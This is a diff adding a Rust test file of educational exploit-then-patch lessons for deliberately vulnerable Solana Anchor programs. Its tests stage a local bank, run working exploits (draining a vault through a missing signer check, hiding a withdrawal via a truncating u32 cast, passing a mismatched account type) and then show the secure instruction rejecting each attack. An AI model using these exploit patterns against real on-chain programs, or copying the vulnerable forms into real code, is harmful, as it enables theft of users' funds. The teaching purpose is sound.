@@ -0,0 +1,298 @@
+//! Exploit-then-patch narratives.
+//!
+//! Each test tells one lesson end to end: it stages realistic state, runs
+//! the VULNERABLE instruction and shows the damage as concrete before/after
+//! numbers, then runs the SECURE instruction against the same staged state
+//! and shows it blocked with nothing changed. The exploit matrix checks
+//! every attack in one line; these walk through a few of them in full.
+//!
+//! ```bash
+//! cargo test -p security-tests --test exploit_narratives -- --nocapture
+//! ```
+
+use std::fmt::Debug;
+
+use anchor_lang::error::ErrorCode as AnchorError;
+use anchor_lang::{AccountDeserialize, InstructionData, ToAccountMetas};
+use security_tests::{anchor_account, custom_error, load, program_test, system_account};
+use solana_program_test::BanksClient;
+use solana_sdk::{
+    account::Account,
+    instruction::Instruction,
+    native_token::LAMPORTS_PER_SOL,
+    pubkey::Pubkey,
+    signature::{Keypair, Signer},
+    transaction::{Transaction, TransactionError},
+};
+
+// ============================================================================
+// STAGE AND STORY
+// ============================================================================
+
+/// Someone other than the attacker whose state is the target.
+const VICTIM: Pubkey = Pubkey::new_from_array([0x11; 32]);
+
+fn ix(program_id: Pubkey, accounts: impl ToAccountMetas, data: impl InstructionData) -> Instruction {
+    Instruction::new_with_bytes(program_id, &data.data(), accounts.to_account_metas(None))
+}
+
+/// Clears `is_signer` on `key`, as an attacker who lacks that key must.
+fn unsigned(mut ix: Instruction, key: &Pubkey) -> Instruction {
+    for meta in ix.accounts.iter_mut().filter(|meta| meta.pubkey == *key) {
+        meta.is_signer = false;
+    }
+    ix
+}
+
+fn custom(error: impl Into<u32>) -> TransactionError {
+    custom_error(0, error)
+}
+
+/// Return data read as a `u64`. The runtime strips trailing zero bytes, so
+/// pad it back.
+fn returned_u64(data: &[u8]) -> u64 {
+    let mut bytes = [0u8; 8];
+    bytes[..data.len()].copy_from_slice(data);
+    u64::from_le_bytes(bytes)
+}
+
+/// The state a narrative starts from.
+///
+/// Every act boots a fresh bank from the same accounts, so the secure
+/// instruction faces exactly what the vulnerable one did.
+struct Stage {
+    attacker: Keypair,
+    accounts: Vec<(Pubkey, Account)>,
+}
+
+/// A bank after one instruction, and how that instruction went.
+struct Act {
+    banks: BanksClient,
+    /// The instruction's return data, or why it failed
+    result: Result<Vec<u8>, TransactionError>,
+}
+
+impl Stage {
+    fn new(attacker: Keypair, accounts: Vec<(Pubkey, Account)>) -> Self {
+        Stage { attacker, accounts }
+    }
+
+    /// Boots the stage and sends `instruction`, paid for and signed by the
+    /// attacker alone.
+    async fn act(&self, instruction: Instruction) -> Act {
+        let mut test = program_test();
+        test.add_account(self.attacker.pubkey(), system_account(LAMPORTS_PER_SOL));
+        for (key, account) in &self.accounts {
+            test.add_account(*key, account.clone());
+        }
+        let (mut banks, _payer, blockhash) = test.start().await;
+
+        let tx = Transaction::new_signed_with_payer(&[instruction], Some(&self.attacker.pubkey()), &[&self.attacker], blockhash);
+        let outcome = banks.process_transaction_with_metadata(tx).await.unwrap();
+        let result = outcome.result.map(|()| {
+            outcome
+                .metadata
+                .and_then(|metadata| metadata.return_data)
+                .map(|return_data| return_data.data)
+                .unwrap_or_default()
+        });
+        Act { banks, result }
+    }
+}
+
+impl Act {
+    async fn lamports(&mut self, key: Pubkey) -> u64 {
+        self.banks.get_balance(key).await.unwrap()
+    }
+
+    async fn load<T: AccountDeserialize>(&mut self, key: Pubkey) -> T {
+        load(&mut self.banks, key).await
+    }
+}
+
+/// The human-readable before/after a narrative prints.
+struct Story {
+    lines: Vec<String>,
+}
+
+impl Story {
+    fn new(lesson: &str, attack: &str) -> Self {
+        Story { lines: vec![format!("== {}: {} ==", lesson, attack)] }
+    }
+
+    fn before(&mut self, what: &str, value: u64) {
+        self.lines.push(format!("before   {:<36} {}", what, value));
+    }
+
+    fn exploited(&mut self, instruction: &str) {
+        self.lines.push(format!("exploit  {:<36} landed", instruction));
+    }
+
+    fn rejected(&mut self, instruction: &str, error: impl Debug) {
+        self.lines.push(format!("patch    {:<36} rejected with {:?}", instruction, error));
+    }
+
+    fn after(&mut self, what: &str, before: u64, after: u64) {
+        let delta = after as i128 - before as i128;
+        self.lines.push(format!("after    {:<36} {} -> {} ({:+})", what, before, after, delta));
+    }
+
+    fn tell(&self) {
+        println!("{}\n", self.lines.join("\n"));
+    }
+}
+
+// ============================================================================
+// 01 - MISSING SIGNER CHECK
+// ============================================================================
+
+#[tokio::test]
+async fn missing_signer_check_drains_a_vault_until_the_signer_is_required() {
+    use missing_signer_check::{accounts, instruction, Vault, ID};
+    const BALANCE: u64 = LAMPORTS_PER_SOL;
+
+    let (vault, bump) = Pubkey::find_program_address(&[b"vault", VICTIM.as_ref()], &ID);
+    let state = Vault { authority: VICTIM, balance: BALANCE, total_withdrawn: 0, withdrawal_limit: BALANCE, bump };
+    let mut vault_account = anchor_account(&state, ID);
+    vault_account.lamports += BALANCE;
+    // Paid out to a wallet of the attacker's other than the fee payer, so
+    // the fee doesn't muddy the numbers
+    let wallet = Pubkey::new_unique();
+    let stage = Stage::new(Keypair::new(), vec![(vault, vault_account), (wallet, system_account(LAMPORTS_PER_SOL))]);
+    let mut story = Story::new("missing_signer_check", "withdraw from a vault naming, not signing as, its owner");
+    story.before("victim's vault balance", BALANCE);
+    story.before("attacker's wallet lamports", LAMPORTS_PER_SOL);
+
+    // The attacker only needs to know the victim's pubkey
+    let mut exploit = stage
+        .act(ix(
+            ID,
+            accounts::WithdrawVulnerable { vault, authority: VICTIM, recipient: wallet },
+            instruction::WithdrawVulnerable { amount: BALANCE },
+        ))
+        .await;
+    exploit.result.as_ref().expect("the victim never signed");
+    let drained = exploit.load::<Vault>(vault).await;
+    let loot = exploit.lamports(wallet).await;
+    story.exploited("withdraw_vulnerable");
+    story.after("victim's vault balance", BALANCE, drained.balance);
+    story.after("attacker's wallet lamports", LAMPORTS_PER_SOL, loot);
+    assert_eq!((drained.balance, drained.total_withdrawn), (0, BALANCE));
+    assert_eq!(loot, LAMPORTS_PER_SOL + BALANCE);
+
+    let withdraw = ix(
+        ID,
+        accounts::WithdrawSecure { vault, authority: VICTIM, recipient: wallet },
+        instruction::WithdrawSecure { amount: BALANCE },
+    );
+    let mut patch = stage.act(unsigned(withdraw, &VICTIM)).await;
+    assert_eq!(patch.result, Err(custom(AnchorError::AccountNotSigner)));
+    let kept = patch.load::<Vault>(vault).await;
+    let loot = patch.lamports(wallet).await;
+    story.rejected("withdraw_secure", AnchorError::AccountNotSigner);
+    story.after("victim's vault balance", BALANCE, kept.balance);
+    story.after("attacker's wallet lamports", LAMPORTS_PER_SOL, loot);
+    assert_eq!((kept.balance, kept.total_withdrawn), (BALANCE, 0));
+    assert_eq!(loot, LAMPORTS_PER_SOL);
+
+    story.tell();
+}
+
+// ============================================================================
+// 03 - INTEGER OVERFLOW
+// ============================================================================
+
+#[tokio::test]
+async fn integer_overflow_hides_a_withdrawal_until_the_cast_is_checked() {
+    use integer_overflow::{accounts, instruction, MathError, WithdrawalRecord, ID};
+    // Bit 32 is lost in `as u32`, leaving only the 100
+    const WITHDRAWN: u64 = (1 << 32) + 100;
+
+    let user = Keypair::new();
+    let (record, bump) = Pubkey::find_program_address(&[b"record", user.pubkey().as_ref()], &ID);
+    let state = WithdrawalRecord { user: user.pubkey(), last_withdrawal: 0, bump, history: vec![] };
+    let stage = Stage::new(user, vec![(record, anchor_account(&state, ID))]);
+    let mut story = Story::new("integer_overflow", "record a 2^32 + 100 withdrawal in a u32");
+    story.before("amount withdrawn", WITHDRAWN);
+    story.before("recorded last_withdrawal", 0);
+
+    let mut exploit = stage
+        .act(ix(
+            ID,
+            accounts::RecordWithdrawal { record, user: stage.attacker.pubkey() },
+            instruction::RecordWithdrawalVulnerable { amount: WITHDRAWN },
+        ))
+        .await;
+    exploit.result.as_ref().expect("`as u32` truncates silently");
+    let recorded = exploit.load::<WithdrawalRecord>(record).await.last_withdrawal as u64;
+    story.exploited("record_withdrawal_vulnerable");
+    story.after("recorded last_withdrawal", 0, recorded);
+    story.after("withdrawn but never recorded", 0, WITHDRAWN - recorded);
+    assert_eq!(recorded, 100);
+
+    let mut patch = stage
+        .act(ix(
+            ID,
+            accounts::RecordWithdrawal { record, user: stage.attacker.pubkey() },
+            instruction::RecordWithdrawalSecure { amount: WITHDRAWN },
+        ))
+        .await;
+    assert_eq!(patch.result, Err(custom(MathError::CastOverflow)));
+    let recorded = patch.load::<WithdrawalRecord>(record).await.last_withdrawal as u64;
+    story.rejected("record_withdrawal_secure", MathError::CastOverflow);
+    story.after("recorded last_withdrawal", 0, recorded);
+    assert_eq!(recorded, 0);
+
+    story.tell();
+}
+
+// ============================================================================
+// 06 - TYPE COSPLAY
+// ============================================================================
+
+#[tokio::test]
+async fn type_cosplay_claims_a_user_balance_as_rewards_until_the_type_is_checked() {
+    use type_cosplay::{accounts, instruction, RewardVault, UserAccount, ID};
+    const REWARDS: u64 = 50;
+    const USER_BALANCE: u64 = 1_000;
+
+    let attacker = Keypair::new();
+    let (reward_vault, bump) = Pubkey::find_program_address(&[b"reward_vault", VICTIM.as_ref()], &ID);
+    let vault_state = RewardVault { authority: VICTIM, balance: REWARDS, bump };
+    let (user_account, bump) = Pubkey::find_program_address(&[b"user", attacker.pubkey().as_ref()], &ID);
+    let user_state = UserAccount { owner: attacker.pubkey(), balance: USER_BALANCE, bump };
+    let stage = Stage::new(
+        attacker,
+        vec![(reward_vault, anchor_account(&vault_state, ID)), (user_account, anchor_account(&user_state, ID))],
+    );
+    let mut story = Story::new("type_cosplay", "pass a UserAccount where a RewardVault belongs");
+    story.before("rewards in the real RewardVault", REWARDS);
+    story.before("attacker's UserAccount balance", USER_BALANCE);
+
+    // Same layout: owner then balance, so the balance reads as rewards
+    let mut exploit = stage
+        .act(ix(
+            ID,
+            accounts::ClaimRewardsVulnerable { vault: user_account, user: stage.attacker.pubkey() },
+            instruction::ClaimRewardsVulnerable {},
+        ))
+        .await;
+    let claimable = returned_u64(exploit.result.as_ref().expect("the discriminator is skipped"));
+    story.exploited("claim_rewards_vulnerable");
+    story.after("rewards the attacker can claim", 0, claimable);
+    assert_eq!(claimable, USER_BALANCE);
+    assert!(claimable > exploit.load::<RewardVault>(reward_vault).await.balance);
+
+    let patch = stage
+        .act(ix(
+            ID,
+            accounts::ClaimRewardsSecure { reward_vault: user_account, user: stage.attacker.pubkey() },
+            instruction::ClaimRewardsSecure {},
+        ))
+        .await;
+    assert_eq!(patch.result, Err(custom(AnchorError::AccountDiscriminatorMismatch)));
+    story.rejected("claim_rewards_secure", AnchorError::AccountDiscriminatorMismatch);
+    story.after("rewards the attacker can claim", 0, 0);
+
+    story.tell();
+}